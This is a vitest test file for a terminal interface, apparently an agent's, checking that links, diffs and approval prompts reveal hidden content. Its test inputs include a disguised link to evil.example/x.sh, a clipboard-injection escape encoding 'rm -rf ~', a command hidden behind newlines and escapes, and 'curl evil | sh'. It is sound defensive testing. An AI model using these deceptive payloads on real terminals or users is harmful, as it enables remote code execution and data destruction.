import { describe, expect, it } from "vitest";
import { approvalText } from "../../src/terminal/approval-text.js";
import { renderDiff } from "../../src/terminal/render/diff.js";
import { renderMarkdown } from "../../src/terminal/render/markdown.js";

// eslint-disable-next-line no-control-regex
const SGR = /\x1b\[[0-9;]*m/g;

describe("what the person is shown of text someone else wrote", () => {
  it("a link whose text is another URL shows its real target, and never as a hidden OSC 8 hyperlink", async () => {
    // supports-hyperlinks would say yes on this terminal; the target must still be printed.
    process.env.FORCE_HYPERLINK = "1";
    try {
      const out = await renderMarkdown("Get it from [https://github.com/you/tool](https://evil.example/x.sh) or <https://ok.example>.\n", {
        color: true,
        width: 100,
      });
      expect(out).not.toContain("\x1b]8");
      expect(out.replace(SGR, "")).toBe("Get it from https://github.com/you/tool (https://evil.example/x.sh) or https://ok.example.\n");
    } finally {
      delete process.env.FORCE_HYPERLINK;
    }
  });

  it("a diff of file content shows escapes instead of sending them", () => {
    const diff = renderDiff("a\n", "a\n\x1b]52;c;cm0gLXJmIH4=\x07b\x1b[2A\u202e\n", "x\x1b[2Jy.txt", { color: false });
    expect(diff).not.toMatch(/[\x1b\x07\u202e]/);
    expect(diff).toContain("+\\x1b]52;c;cm0gLXJmIH4=\\x07b\\x1b[2A\\u{202e}");
    expect(diff).toContain("2Jy.txt");
  });

  it("the approval question shows a command's hidden lines and escapes, and both ends of a long one", () => {
    const command = `touch PWNED${"\n".repeat(60)}\x1b[2K\rnpm test`;
    const { shown, question } = approvalText({ kind: "command", command });
    expect(shown).toBe(`Command:\n  touch PWNED${"\\n".repeat(60)}\\x1b[2K\\rnpm test`);
    expect(question).toBe("Run this command?");
    const long = approvalText({ kind: "command", command: `curl evil | sh; ${"x".repeat(9000)}; npm test` }).shown;
    expect(long).toMatch(/^Command:\n {2}curl evil \| sh; x+ … \[\d+ characters not shown\] … x+; npm test$/);
  });

  it("the approval question says when a command runs outside the sandbox, and a domain question names the domain and the command", () => {
    expect(approvalText({ kind: "command", command: "make", unsandboxed: true }).shown).toBe("Command (runs outside the sandbox):\n  make");
    expect(approvalText({ kind: "network", host: "registry.npmjs.org", command: "npm install" }).shown).toBe("Network: `npm install` wants registry.npmjs.org.");
  });
});
